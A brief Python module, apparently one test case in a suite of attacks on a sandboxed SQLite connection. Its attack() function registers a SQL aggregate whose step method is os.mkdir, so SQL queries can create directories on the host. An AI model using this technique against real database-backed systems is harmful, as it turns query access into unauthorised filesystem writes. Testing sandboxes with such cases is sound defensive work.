"""C functions as the methods of an aggregate."""
CATEGORY = "callable"
REACH = "write"

import os

from . import payload


class Sum:
    step = staticmethod(os.mkdir)
    finalize = staticmethod(int)


TARGET = payload.TARGET


def attack(connection):
    connection.create_aggregate("own", 1, Sum)
